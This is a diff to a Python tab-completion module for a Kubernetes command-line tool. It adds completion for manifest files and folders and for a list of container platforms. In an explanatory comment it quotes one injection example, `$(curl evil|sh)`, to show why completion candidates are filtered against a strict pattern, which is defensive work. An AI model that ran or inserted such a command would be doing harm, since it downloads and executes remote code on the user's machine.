@@ -1,4 +1,4 @@
-"""What the shell offers on Tab: clusters, contexts, namespaces and failing pods.
+"""What the shell offers on Tab: clusters, contexts, namespaces, failing pods and manifests.
 
 Fast and silent: whatever goes wrong, or takes longer than two seconds, offers nothing. A line of text in
 the middle of a person's typing would be worse than no help.
@@ -17,6 +17,8 @@ _PATIENCE_S = 2.0
 # The shell puts a candidate into the line as it stands, and a dump's names are a stranger's: `$(curl evil|sh)`.
 # What the API allows passes, and so do contexts such as arn:aws:eks:eu-west-1:123456789012:cluster/prod.
 _INERT = re.compile(r"[A-Za-z0-9_.:/@+=,%][A-Za-z0-9_.:/@+=,%-]*")
+_MANIFESTS = (".yaml", ".yml", ".json")
+_PLATFORMS = ("linux/amd64", "linux/arm64", "linux/arm/v7", "linux/ppc64le", "linux/s390x", "windows/amd64")
 # kubectl's own kinds, in the spelling people type.
 _KINDS = ("deploy/", "sts/", "ds/", "job/", "cj/", "rs/", "po/")
 
@@ -66,6 +68,27 @@ def targets(context: typer.Context, incomplete: str) -> list[str]:
         *_offered(ask, incomplete),
         *(kind for kind in _KINDS if incomplete and kind.startswith(incomplete)),
     ]
+
+
+def manifests(_context: typer.Context, incomplete: str) -> list[str]:
+    """Files that may hold manifests, and folders."""
+
+    def ask() -> Iterable[str]:
+        folder, slash, begun = incomplete.rpartition("/")
+        for place in Path(folder + slash or ".").iterdir():
+            if place.name.startswith(".") and not begun:
+                continue
+            if place.is_dir():
+                yield f"{folder}{slash}{place.name}/"
+            elif place.suffix in _MANIFESTS:
+                yield f"{folder}{slash}{place.name}"
+
+    return _offered(ask, incomplete)
+
+
+def platforms(_context: typer.Context, incomplete: str) -> list[str]:
+    """What most nodes run."""
+    return _offered(lambda: _PLATFORMS, incomplete)
 
 
 def causes(_context: typer.Context, incomplete: str) -> list[str]:
